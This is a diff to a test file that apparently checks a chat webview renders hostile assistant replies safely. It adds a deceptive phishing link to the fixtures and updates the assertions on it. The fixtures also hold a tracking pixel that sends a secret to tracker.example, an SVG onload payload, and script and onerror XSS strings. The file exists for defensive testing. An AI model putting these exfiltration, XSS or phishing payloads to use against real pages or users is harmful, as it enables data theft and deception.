@@ -45,6 +45,7 @@ const hostileReply = [
   '- ![tracking pixel](https://tracker.example/pixel.png?leak=secret)',
   '- ![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
   '- [safe link](https://docs.anthropic.com/en/api/messages)',
+  '- [https://docs.anthropic.com/en/home](https://phish.example/login "https://docs.anthropic.com/en/home")',
   '',
   "&lt;script&gt;window.__xss='entities'&lt;/script&gt; and &#60;img src=x onerror=window.__xss='numeric'&#62;",
   '',
@@ -103,7 +104,7 @@ describe('chat webview rendering: hostile replies execute nothing; rich replies,
     workbench = await openWorkbench({ settings: { 'claudeApi.baseUrl': fake.url, 'claudeApi.maxRetries': 0 } });
     await workbench.runCommand('Claude API: Set API Key');
     await workbench.typeKeyIntoPasswordBox(testKey);
-    await workbench.runCommand('Claude API: Open Chat');
+    await workbench.runCommand('Claude: Focus on Chat View');
     await chatLocator(workbench).locator('body[data-ready="true"]').waitFor({ timeout: 60_000 });
     frame = await chatFrame(workbench);
   });
@@ -157,6 +158,7 @@ describe('chat webview rendering: hostile replies execute nothing; rich replies,
         bodyDisplay: getComputedStyle(document.body).display,
         text: messages.querySelector('.turn[data-role="assistant"] .markdown')?.textContent ?? '',
         linkTexts: Array.from(messages.querySelectorAll('.turn[data-role="assistant"] a')).map((a) => a.textContent),
+        phishTitle: messages.querySelector('.turn[data-role="assistant"] a[href^="https://phish.example/"]')?.getAttribute('title'),
       };
     });
 
@@ -168,6 +170,8 @@ describe('chat webview rendering: hostile replies execute nothing; rich replies,
     for (const href of findings.hrefs) assert.match(href, /^https:\/\//, `only https links keep an href: ${href}`);
     assert.ok(findings.hrefs.includes('https://docs.anthropic.com/en/api/messages'), 'the safe link still works');
     assert.ok(!findings.hrefs.some((href) => href.includes('tracker.example/pixel')) || findings.linkTexts.some((text) => text?.includes('(image)')));
+    assert.strictEqual(findings.phishTitle, 'https://phish.example/login', 'the hover shows the real URL, not the title the reply gave');
+    assert.ok(findings.linkTexts.includes('https://docs.anthropic.com/en/home (phish.example)'), 'a link naming another site says where it goes');
     assert.notStrictEqual(findings.bodyDisplay, 'none', 'injected CSS hid the page');
     // Nothing lost: the hostile HTML is shown as text, and the markdown around it still renders.
     assert.ok(findings.text.includes("<script>window.__xss = 'script'; parent.__xss = 'script'</script>"), 'raw HTML shows as text');
